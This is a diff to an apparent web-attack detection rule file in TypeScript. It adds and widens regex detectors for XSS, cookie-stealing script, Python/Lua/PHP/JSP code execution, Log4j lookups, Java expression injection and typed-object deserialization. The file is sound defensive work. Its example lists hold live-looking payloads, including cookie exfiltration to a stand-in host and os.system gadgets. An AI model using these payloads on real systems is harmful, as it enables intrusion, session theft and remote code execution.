@@ -20,7 +20,7 @@ const js: readonly PatternDetector[] = [
       'alert confirm prompt eval settimeout setinterval function atob fetch document. console.log',
     ),
     pattern:
-      /(?:^|[^\\])["'`)\]}]{1,3}[\s;,)}\]]{0,6}(?:[-+*/^%|&?:,;=]{1,2})\s{0,4}[({[]{0,3}(?:(?:window|self|top|parent|globalThis|frames)\s{0,2}(?:\.|\[))?["'`]{0,1}(?:alert|confirm|prompt|eval|setTimeout|setInterval|Function|atob|fetch|document\.\w{3,8}|console\.log)["'`\])]{0,3}\s{0,4}[(`]/g,
+      /(?:^\\?|[^\\])["'`)\]}]{1,3}[\s;,)}\]]{0,6}(?:[-+*/^%|&?:,;=]{1,2}|(?<=["'`]\s{0,2}\}))\s{0,4}[({[]{0,3}(?:(?:window|self|top|parent|globalThis|frames)\s{0,2}(?:\.|\[))?["'`]{0,1}(?:alert|confirm|prompt|eval|setTimeout|setInterval|Function|atob|fetch|document\.\w{3,8}|console\.log)["'`\])]{0,3}\s{0,4}[(`]/g,
     examples: {
       attacks: ["'-alert(1)-'", '";alert(1)//', "');confirm(1)//", "'+eval(1)+'"],
       benign: ['he said "alert" (1)', "it's; an alert", '"a" - b'],
@@ -70,9 +70,11 @@ const js: readonly PatternDetector[] = [
     strong: true,
     confirmedBy: [941, 934],
     needs: 0,
-    literals: words('constructor function ` reflect. [ onerror'),
+    literals: words(
+      'constructor function ` reflect. [ onerror eval execscript settimeout setinterval',
+    ),
     pattern:
-      /(?:constructor|\[["'`]constructor["'`]\])\s{0,2}(?:\.|\[["'`]|\()\s{0,2}(?:constructor|prototype|["'`])[^\n]{0,8}[(\]]|(?:\[\]|""|''|\d)(?:\.|\[["'`])(?:constructor|filter|map|find|sort|at|flat|concat|some|entries)[^\n]{0,16}constructor|new\s{1,4}Function\s{0,2}\(\s{0,2}["'`]|(?:alert|confirm|prompt|eval|setTimeout|Function)(?:\.call|\.apply|\.bind|\?\.)?\s{0,2}`[^`]{0,64}`|Reflect\.(?:apply|construct)\s{0,2}\(|\[\s{0,2}["'`](?:al|ale|aler|ev|eva|con|pro|prom)["'`]\s{0,2}\+|\b(?:window|self|top|parent|globalThis)\s{0,2}\[\s{0,2}["'`/][^\]]{1,60}\]\s{0,2}\(|throw\s{0,2}onerror\s{0,2}=|onerror\s{0,2}=\s{0,2}(?:alert|eval)/g,
+      /(?:constructor|\[["'`]constructor["'`]\])\s{0,2}(?:\.|\[["'`]|\()\s{0,2}(?:constructor|prototype|["'`])[^\n]{0,8}[(\]]|(?:\[\]|""|''|\d)(?:\.|\[["'`])(?:constructor|filter|map|find|sort|at|flat|concat|some|entries)[^\n]{0,16}constructor|new\s{1,4}Function\s{0,2}\(\s{0,2}["'`]|(?:alert|confirm|prompt|eval|setTimeout|Function)(?:\.call|\.apply|\.bind|\?\.)?\s{0,2}`[^`]{0,64}`|Reflect\.(?:apply|construct)\s{0,2}\(|\[\s{0,2}["'`](?:al|ale|aler|ev|eva|con|pro|prom)["'`]\s{0,2}\+|\b(?:window|self|top|parent|globalThis)\s{0,2}\[\s{0,2}["'`/][^\]]{1,60}\]\s{0,2}\(|\b(?:eval|execScript)\s{0,2}\(\s{0,2}(?:["'][^"'\n]{0,40}["']\s{0,2}\+|atob|unescape|String\.from|location|name\b)|\b(?:setTimeout|setInterval)\s{0,2}\(\s{0,2}["'`]\s{0,2}(?:alert|confirm|prompt|eval|document)\b|\bFunction\s{0,2}\(\s{0,2}["'`][^\n]{0,80}["'`]\s{0,2}\)\s{0,2}\(|throw\s{0,2}onerror\s{0,2}=|onerror\s{0,2}=\s{0,2}(?:alert|eval)/g,
     examples: {
       attacks: [
         "constructor.constructor('x')()",
@@ -81,6 +83,38 @@ const js: readonly PatternDetector[] = [
         "new Function('x')",
       ],
       benign: ['the constructor call', 'new Functionality', 'an alert'],
+    },
+  },
+  {
+    id: 198_437,
+    name: 'script-call-value',
+    proves: 'breaks out of a script or template and calls a function',
+    source: ecma,
+    strong: true,
+    confirmedBy: [941],
+    needs: SEEN.paren,
+    literals: words('alert confirm prompt eval'),
+    pattern:
+      /^(?=[^a-z]{0,16}[-+*/;|&~!}$])[\s\d;,*/+|&(){}[\]$!~"'`\\^-]{1,16}(?:(?:window|self|top|parent|globalThis)\s{0,2}\.\s{0,2})?(?:alert|confirm|prompt|eval)\s{0,2}\(\s{0,2}(?:\d|["'`/]|document|window|location|origin|this|self|name|atob|String)/g,
+    examples: {
+      attacks: ['1;alert(1)', '*/alert(1)/*', '${alert(1)}', '-prompt(document.domain)-'],
+      benign: ['alert(1)', 'on error: alert(1)', '(an alert (1))', '// call alert("x") here'],
+    },
+  },
+  {
+    id: 198_438,
+    name: 'script-sends-page',
+    proves: 'sends cookies or contents of the page to another host',
+    source: ecma,
+    strong: true,
+    confirmedBy: [941],
+    needs: SEEN.plus,
+    literals: words('document.'),
+    pattern:
+      /(?:\bfetch\s{0,2}\(|sendBeacon\s{0,2}\(|\blocation(?:\.href)?\s{0,2}=|\.src\s{0,2}=|\bopen\s{0,2}\(|location\.(?:assign|replace)\s{0,2}\()\s{0,4}["'`](?:https?:)?\/\/[^"'`\n]{0,200}["'`]\s{0,4}\+\s{0,4}(?:[\w.]{0,32}\(\s{0,4}){0,2}document\.(?:cookie|domain|body|documentElement)/g,
+    examples: {
+      attacks: ["document.location='//x?'+document.cookie", 'fetch("//x/"+btoa(document.cookie))'],
+      benign: ['document.cookie = "a=" + b', 'fetch("/a?" + document.title)'],
     },
   },
   {
@@ -122,19 +156,24 @@ const js: readonly PatternDetector[] = [
   {
     id: 198_436,
     name: 'python-code',
-    proves: 'runs code of Python',
-    source: 'Python language reference 3.13, section 3.2; Jinja sandbox notes',
+    proves: 'runs code of Python or Lua',
+    source:
+      'Lua 5.4 manual, section 6.9; Python language reference 3.13, section 3.2; Jinja sandbox notes',
     strong: true,
     confirmedBy: [934, 932],
     needs: 0,
-    literals: [...words('__ os. subprocess. eval exec import pickle.'), ...['\nsystem', '\npopen']],
+    literals: [
+      ...words('__ os. io.popen subprocess. eval exec import pickle.'),
+      ...['\nsystem', '\npopen'],
+    ],
     pattern:
-      /__(?:import__\s{0,4}\(|class__\s{0,4}(?:\.|\[|\)|\|)|mro__|subclasses__|globals__|builtins__|base__|bases__|reduce__|getattribute__|init__\s{0,2}(?:\.|\[))|\bos\.(?:system|popen|execv?|spawnl)\s{0,4}\(|\bsubprocess\.(?:call|run|popen|check_output|getoutput)\s{0,4}\(|\b(?:eval|exec)\s{0,4}\(\s{0,4}(?:compile|bytes|chr|base64|__)|\bimport\s{1,4}(?:os|socket|subprocess|pty)\s{0,4};|\bpickle\.loads|c(?:os|posix|nt|__builtin__)\n(?:system|popen|eval|exec)\n/gi,
+      /__(?:import__\s{0,4}\(|class__\s{0,4}(?:\.|\[|\)|\|)|mro__|subclasses__|globals__|builtins__|base__|bases__|reduce__|getattribute__|init__\s{0,2}(?:\.|\[))|\b(?:os\.(?:system|popen|execv?|execute|spawnl)|io\.popen)\s{0,4}\(|\bsubprocess\.(?:call|run|popen|check_output|getoutput)\s{0,4}\(|\b(?:eval|exec)\s{0,4}\(\s{0,4}(?:compile|bytes|chr|base64|__)|\bimport\s{1,4}(?:os|socket|subprocess|pty)\s{0,4};|\bpickle\.loads|c(?:os|posix|nt|__builtin__)\n(?:system|popen|eval|exec)\n/gi,
     examples: {
       attacks: [
         "__import__('os').system('id')",
         "''.__class__.__mro__",
         'import os;os.system("x")',
+        'os.execute("id")',
       ],
       benign: ['import os', 'the __init__ method', 'class __main__'],
     },
@@ -142,14 +181,14 @@ const js: readonly PatternDetector[] = [
   {
     id: 198_450,
     name: 'php-open-tag',
-    proves: 'begins code of PHP',
+    proves: 'begins code of PHP, JSP or ASP',
     source: phpManual,
     strong: true,
     confirmedBy: [933],
     needs: SEEN.less,
-    literals: ['<?', '<script', '<%'],
+    literals: ['<?', '<script', '<%', '<jsp:'],
     pattern:
-      /<\?(?:php\b|=\s{0,4}[$\w`("'])|<script[^>]{0,40}language\s{0,4}=\s{0,4}["']?php|<%[=@!]?\s{0,8}(?:page|@|response|request|eval|execute|runtime|java|out\.|system|`|\d|import)/gi,
+      /<\?(?:php\b|=\s{0,4}[$\w`("'])|<script[^>]{0,40}(?:language\s{0,4}=\s{0,4}["']?php|runat\s{0,4}=\s{0,4}["']?server)|<jsp:(?:scriptlet|expression|declaration|include|forward)\b|<%[=@!]?\s{0,8}(?:page|@|response|request|eval|execute|runtime|java|out\.|system|`|\d|import)/gi,
     examples: {
       attacks: ['<?php echo 1;', '<?=`id`?>', '<%=7*7%>'],
       benign: ['<?xml version="1.0"?>', 'a <? b', '<%'],
@@ -162,14 +201,15 @@ const js: readonly PatternDetector[] = [
     source: phpManual,
     strong: true,
     confirmedBy: [933],
-    needs: SEEN.paren,
-    literals: words(`exec passthru proc_open popen phpinfo php_uname phpversion phpcredits assert
+    needs: 0,
+    literals:
+      words(`runphp exec passthru proc_open popen phpinfo php_uname phpversion phpcredits assert
       create_function call_user_func base64_decode gzinflate str_rot13 file_put_contents
       file_get_contents readfile highlight_file show_source move_uploaded_file var_dump print ini_set
       getenv posix_ scandir opendir fopen unlink system include require die eval chr exit echo
       $_ $globals \${`),
     pattern:
-      /(?:^|[^\w.>$'"-])(?:shell_exec|passthru|proc_open|popen|pcntl_exec|phpinfo|php_uname|phpversion|phpcredits|assert|create_function|call_user_func(?:_array)?|base64_decode|gzinflate|str_rot13|file_put_contents|file_get_contents|readfile|highlight_file|show_source|move_uploaded_file|var_dump|print_r|ini_set|getenv|posix_\w{4,12}|scandir|opendir|fopen|unlink|system|exec|include|require(?:_once)?|die|eval|chr)\s{0,4}(?:\/\*[^*]{0,20}\*\/)?\(\s{0,4}(?:["'](?!use|child)[^"']{1,80}["']\s{0,4}[).,]|\$_(?:get|post|request|cookie|server|files)|\$\w{1,20}\[|\)\s{0,4};|base64_decode|chr\(|gzinflate|str_rot13|md5\(|\d{1,12}\s{0,4}\)\s{0,4}[.;])|\$_(?:GET|POST|REQUEST|COOKIE|SERVER|FILES|SESSION|ENV)\s{0,2}[[{]|\$\{?GLOBALS\b|\$\{@?(?:print|system|eval|phpinfo|exec)\b|\b(?:print|echo|die|exit)\s{0,2}\(?\s{0,2}`[^`]{1,80}`|[;{]\s{0,4}@?(?:print|echo)\s{0,4}\(?\s{0,4}(?:md5|phpinfo|system|`|\d{1,12}\s{0,2}[*+])/gi,
+      /(?:^|[^\w.>$'"-])(?:shell_exec|passthru|proc_open|popen|pcntl_exec|phpinfo|php_uname|phpversion|phpcredits|assert|create_function|call_user_func(?:_array)?|base64_decode|gzinflate|str_rot13|file_put_contents|file_get_contents|readfile|highlight_file|show_source|move_uploaded_file|var_dump|print_r|ini_set|getenv|posix_\w{4,12}|scandir|opendir|fopen|unlink|system|exec|include|require(?:_once)?|die|eval|chr)\s{0,4}(?:\/\*[^*]{0,20}\*\/)?\(\s{0,4}(?:["'](?!use|child)[^"']{1,80}["']\s{0,4}[).,]|\$_(?:get|post|request|cookie|server|files)|\$\w{1,20}\[|\)\s{0,4};|base64_decode|chr\(|gzinflate|str_rot13|md5\(|\d{1,12}\s{0,4}\)\s{0,4}[.;])|\$_(?:GET|POST|REQUEST|COOKIE|SERVER|FILES|SESSION|ENV)\s{0,2}[[{]|\$\{?GLOBALS\b|\$\{@?(?:print|system|eval|phpinfo|exec)\b|\b(?:print|echo|die|exit)\s{0,2}\(?\s{0,2}`[^`]{1,80}`|(?:^|[;{}])\s{0,4}@?(?:print|echo)\s{0,4}\(?\s{0,4}(?:md5|phpinfo|system|shell_exec|`|\d{1,12}\s{0,2}[*+])(?:\s{0,2}\(|(?<=[`*+]))|["']\s{0,4}[.;]\s{0,4}@?(?:system|exec|passthru|shell_exec|eval|assert|popen|phpinfo)\s{0,2}\([^\n]{0,80}\)\s{0,4}[.;]|^phpinfo\s{0,2}\(\)$|\{\w{1,12}:[^{}\n]{0,80}\srunphp\s{0,4}=/gi,
     examples: {
       attacks: [
         "system('id')",
@@ -177,6 +217,8 @@ const js: readonly PatternDetector[] = [
         "eval($_POST['x'])",
         '${@print(md5(1))}',
         ';print(md5(5));',
+        'phpinfo()',
+        ...['echo md5("x");', '";system(id)."', ';{$_GET["cmd"]}'],
       ],
       benign: ['the system (old)', 'include (optional)', 'a chr(1) b', 'die (der)'],
     },
@@ -206,7 +248,7 @@ const js: readonly PatternDetector[] = [
     needs: SEEN.dollar | SEEN.brace,
     literals: ['${'],
     pattern:
-      /\$\{\s{0,4}(?:jndi\s{0,4}:|(?:lower|upper|env|sys|date|main|java|ctx|base64|bundle|:|::|k8s|docker|web|event|marker|map|sd|log4j|spring|kubernetes):[^{}]{0,60}(?:\}|\$\{)|[^{}\n]{0,40}:-[^{}]{0,8}\}[^\n]{0,200}(?::|\$\{)|[^{}]{0,16}\$\{(?:lower|upper|env|sys|::?-?|date|[^{}]{0,20}:-))/gi,
+      /\$\{\s{0,4}(?:jndi\s{0,4}:|(?:lower|upper|env|sys|date|main|java|ctx|base64|bundle|:|::|k8s|docker|web|event|marker|map|sd|log4j|spring|kubernetes|script|dns|url|xml|const|properties):[^{}]{0,60}(?:\}|\$\{)|[^{}\n]{0,40}:-[^{}]{0,8}\}[^\n]{0,200}(?::|\$\{)|[^{}]{0,16}\$\{(?:lower|upper|env|sys|::?-?|date|[^{}]{0,20}:-))/gi,
     examples: {
       attacks: [
         '${jndi:ldap://x/a}',
@@ -228,18 +270,19 @@ const js: readonly PatternDetector[] = [
     literals: [
       ...words('java. javax. getruntime getclass forname # @ default_member_access xwork. module'),
       ...words(
-        'classloader protectiondomain com.sun. org.apache. ch.qos. ysoserial freemarker. %{',
+        'classloader protectiondomain @grab @asttest execute com.sun. org.apache. ch.qos. ysoserial freemarker. %{',
       ),
       ...apart(')', '.'),
     ],
     pattern:
-      /(?:java\.lang\.|javax\.|java\.(?:io|net|util)\.)(?:Runtime|ProcessBuilder|Class|System|ScriptEngineManager|script\.|naming\.|File\w{0,16}|URL\w{0,16}|Scanner|Thread|Math|String|ProcessImpl)\b|\bT\s{0,2}\(\s{0,2}[\w.]{2,64}\s{0,2}\)\s{0,2}\.|\bgetRuntime\s{0,2}\(|\.getClass\s{0,2}\(\s{0,2}\)\s{0,2}\.|\bforName\s{0,2}\(\s{0,2}["']|#(?:_memberAccess|context|application|session|attr|request|parameters)\b\s{0,4}(?:\[|=|\.)|@\w{2,20}\.[\w.]{4,80}@\w|\bDEFAULT_MEMBER_ACCESS|#\w{1,20}\s{0,4}=\s{0,4}(?:new\s|@|\(#)|\bxwork\.MethodAccessor|(?:^|[.&?])(?:class|\w{1,24}\.class)(?:\.|\[["'])(?:module|classLoader|protectionDomain)\b|com\.sun\.(?:rowset|org\.apache)|org\.apache\.(?:commons\.collections|xalan|tomcat|struts2)\.|ch\.qos\.logback|ysoserial|\bfreemarker\.template\.utility|"@type"|%\{\s{0,4}[#(\d]/g,
+      /(?:java\.lang\.|javax\.|java\.(?:io|net|util)\.)(?:Runtime|ProcessBuilder|Class|System|ScriptEngineManager|script\.|naming\.|File\w{0,16}|URL\w{0,16}|Scanner|Thread|Math|String|ProcessImpl)\b|\bT\s{0,2}\(\s{0,2}[\w.]{2,64}\s{0,2}\)\s{0,2}\.|\bgetRuntime\s{0,2}\(|\.getClass\s{0,2}\(\s{0,2}\)\s{0,2}\.|\bforName\s{0,2}\(\s{0,2}["']|#(?:_memberAccess|context|application|session|attr|request|parameters)\b\s{0,4}(?:\[|=|\.)|@\w{2,20}\.[\w.]{4,80}@\w|\bDEFAULT_MEMBER_ACCESS|#\w{1,20}\s{0,4}=\s{0,4}(?:new\s|@|\(#)|\bxwork\.MethodAccessor|(?:^|[.&?])(?:class|\w{1,24}\.class)(?:\.|\[["'])(?:module|classLoader|protectionDomain)\b|com\.sun\.(?:rowset|org\.apache)|org\.apache\.(?:commons\.collections|xalan|tomcat|struts2)\.|ch\.qos\.logback|ysoserial|\bfreemarker\.template\.utility|@Grab(?:Config|Resolver|Exclude)?\s{0,2}\(|@ASTTest\s{0,2}\(|["']\s{0,2}\.\s{0,2}execute\s{0,2}\(\s{0,2}\)|"@type"|%\{\s{0,4}[#(\d]|\$\{\s{0,4}(?:\(\s{0,2})?#\w{1,20}\s{0,2}=/g,
     examples: {
       attacks: [
         "T(java.lang.Runtime).getRuntime().exec('id')",
         '%{#context}',
         'class.module.classLoader.x',
         '@java.lang.Math@PI',
+        ...['@GrabConfig(disableChecksums=true)', '"id".execute().text'],
       ],
       benign: ['java.util.List', 'a class loader', 'me@mail.example', 'get runtime'],
     },
@@ -257,11 +300,35 @@ const js: readonly PatternDetector[] = [
       '\0\x01\0\0\0\xff',
       ...words('\x80\x02 \x80\x03 \x80\x04 \x80\x05'),
     ],
-    kinds: ['binary'],
-    pattern: /^(?:\xac\xed\0\x05|\0\x01\0\0\0\xff\xff\xff\xff|\x80[\x02-\x05][c\x95}\]])/g,
+    kinds: ['binary', 'text'],
+    pattern:
+      /^(?:\xac\xed\0\x05|\0\x01\0\0\0\xff\xff\xff\xff|\x80[\x02-\x05](?:c\w{2,32}\n|\x95|\}q|\]q))/g,
     examples: {
       attacks: ['rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==', 'AAEAAAD/////AQAAAAAAAAAMAgAAAA=='],
       benign: ['iVBORw0KGgoAAAANSUhEUg==', 'AAAA'],
+    },
+  },
+  {
+    id: 198_463,
+    name: 'typed-object',
+    proves: 'names the class of an object that the reader creates',
+    source: 'YAML 1.2, section 6.9; Json.NET and DataContractSerializer documentation',
+    strong: true,
+    confirmedBy: [944, 934],
+    needs: 0,
+    literals: words(
+      '!ruby/ !python/ !php/ !!javax !!java. !!com. !!org. <dynamic-proxy system.diagnostics kernel. io.popen process.spawn $type objectdataprovider z:type',
+    ),
+    pattern:
+      /!ruby\/(?:object|hash|struct|module|class|regexp|marshalable)|!!?python\/(?:object|name|module|apply)|!php\/object|!!(?:javax?|com|org)\.[\w.]{2,80}|["']\$type["']\s{0,4}:\s{0,4}["'](?:System|Microsoft)\.|\bObjectDataProvider\b|<dynamic-proxy>|\bSystem\.Diagnostics\.Process\b[^\n]{0,4}\.Start|\b(?:Kernel\.(?:exec|system|spawn)|IO\.popen|Process\.spawn)\s{0,2}\(|\bz:Type\s{0,2}=\s{0,2}["']System\./g,
+    examples: {
+      attacks: [
+        '--- !ruby/object:Gem::Installer',
+        '!!python/object/apply:os.system ["id"]',
+        '!!javax.script.ScriptEngineManager [x]',
+        '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}',
+      ],
+      benign: ['!important', '!!true', '"type":"System.String"', 'we love ruby/object mapping!'],
     },
   },
 ];
